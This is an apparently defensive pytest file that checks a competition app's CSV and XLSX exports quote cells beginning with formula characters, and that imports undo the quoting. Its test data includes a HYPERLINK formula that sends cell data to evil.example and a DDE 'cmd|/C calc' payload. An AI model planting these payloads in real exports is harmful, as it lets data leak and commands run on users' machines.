"""Formula injection through the exports a spreadsheet opens.

docs/contracts.md: exports (CSV, XLSX) put a `'` before a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return; the import strips it. A team called
`=HYPERLINK(...)` went unchanged into results.csv, teams.csv (with contact data) and
audit.csv, where Excel or LibreOffice would run it as a formula.
"""

import csv
import io

import pytest

from competition import imports
from competition.cells import FORMULA_STARTS, safe_cell, unescape_cell
from competition.services import team_create
from judging.services import warning_log
from tests.factories import CompetitionFactory

pytestmark = pytest.mark.django_db

S = "dm-2026"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Klik her")'
NAMES = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+45 11 22 33 44", "-2+3"]
EVIL = [*NAMES, "\tTab", "\rCR"]  # a name is stripped: tab and CR only in a unit test


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.fixture
def evil_teams(competition, desk):
    return [
        team_create(
            competition=competition,
            by=desk,
            name=name,
            table=table,
            members=[{"name": "@Anne", "under_15": True, "guardian": "=Mor"}],
            contact_name="=Kontakt",
            contact_phone="+45 11 22 33 44",
            notes="-ringer",
        )
        for table, name in enumerate(NAMES, start=1)
    ]


@pytest.mark.parametrize("text", EVIL + ["=", "@", "'=already-quoted", "-"])
def test_a_text_that_starts_like_a_formula_gets_a_quote(text):
    if text.startswith("'"):  # not a formula: left alone
        assert safe_cell(text) == text
    else:
        assert safe_cell(text) == "'" + text
        assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Kantsøgerne", "1:23:45", "", " =x", "'t Hoekje", 7, -3, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_import_keeps_a_leading_quote_that_is_not_an_escape():
    assert unescape_cell("'t Hoekje") == "'t Hoekje"
    assert unescape_cell("'") == "'"


def test_results_csv_escapes_formula_cells(client, competition, evil_teams):
    rows = _rows(client.get(f"/{S}/results.csv"))
    names = [row[1] for row in rows[1:]]
    assert sorted(names) == sorted("'" + name for name in NAMES)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in _cells(rows))


def test_the_desk_export_escapes_formula_cells(client, desk, competition, evil_teams):
    client.force_login(desk)
    rows = _rows(client.get(f"/desk/{S}/teams.csv"))
    cells = _cells(rows)
    assert {
        "'" + HYPERLINK,
        "'=Kontakt",
        "'+45 11 22 33 44",
        "'-ringer",
        "'@Anne",
        "'=Mor",
    } <= cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_audit_csv_escapes_formula_cells(client, admin_user, judge, competition, evil_teams):
    from datetime import timedelta

    from django.utils import timezone

    competition.started_at = timezone.now() - timedelta(minutes=5)
    competition.save()
    warning_log(team=evil_teams[0], by=judge, reason="=1+1")
    client.force_login(admin_user)
    rows = _rows(client.get(f"/control/{S}/audit.csv"))
    cells = _cells(rows)
    assert "'=1+1" in cells
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_export_then_import_gives_back_the_same_texts(competition, desk, evil_teams):
    exported = imports.export_csv(competition)
    other = CompetitionFactory(slug="andet")
    preview = imports.preview(other, exported.encode(), "hold.csv")
    assert preview.ok, [t.problems for t in preview.teams]
    by_table = {t.table: t for t in preview.teams}
    for team in evil_teams:
        again = by_table[team.table]
        assert again.name == team.name
        assert again.contact_name == "=Kontakt"
        assert again.contact_phone == "+45 11 22 33 44"
        assert again.notes == "-ringer"
        assert again.members == [{"name": "@Anne", "under_15": True, "guardian": "=Mor"}]


def test_an_xlsx_cell_with_the_escape_is_imported_without_it(competition):
    import tablib

    data = tablib.Dataset(headers=["Hold", "Bord"])
    data.append(["'=Kantsøgerne", 1])
    preview = imports.preview(competition, data.export("xlsx"), "hold.xlsx")
    assert [t.name for t in preview.teams] == ["=Kantsøgerne"]
